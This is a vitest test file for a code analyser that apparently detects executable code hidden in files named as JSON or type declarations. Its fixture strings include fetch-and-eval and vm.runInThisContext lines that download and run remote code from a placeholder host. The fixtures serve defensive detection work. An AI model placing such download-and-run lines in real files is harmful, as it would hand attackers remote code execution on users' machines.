import { describe, expect, it } from 'vitest'
import { readingOf } from './testing.ts'

describe('files that may be no code', () => {
  it.each([
    ['a package file', 'package.json', '{ "name": "https", "scripts": { "a": "node -e \\"eval(1)\\"" } }'],
    ['a list', 'a.json', ' [1, "eval(process.env)"]'],
    [
      'declared types with examples in comments',
      'a.d.ts',
      `/**\n * const a = require('child_process'); a.exec(x)\n */\nimport fs = require('fs')\nexport declare function require(id: string): any\nexport type T = typeof import('vm')\n// eval(x)\nexport declare function exec(c: string): fs.Stats\n`,
    ],
  ])('takes %s for none', (_, name, text) => {
    expect(readingOf(name, { [name]: text })).toEqual({ acts: [], handOvers: [], problem: '' })
  })

  it.each([
    [
      'code that is named as declared types',
      'b.d.ts',
      `export interface A { a: string }\nconst w = require('https'); w.get('https://a.invalid', (r) => { let t = ''; r.on('data', (c) => { t += c }); r.on('end', () => eval(t)) })`,
    ],
    [
      'the same of a module',
      'b.d.mts',
      `/* types */\nawait import('node:vm').then(async (vm) => vm.runInThisContext(await (await fetch('https://a.invalid')).text()))`,
    ],
    ['code that is named as data', 'b.json', `fetch('https://a.invalid').then((r) => r.text()).then(eval)`],
  ])('reads %s', (_, name, text) => {
    expect(readingOf(name, { [name]: text }).acts).toContainEqual(
      expect.objectContaining({ kind: 'run-code', origins: expect.arrayContaining(['network']) }),
    )
  })
})
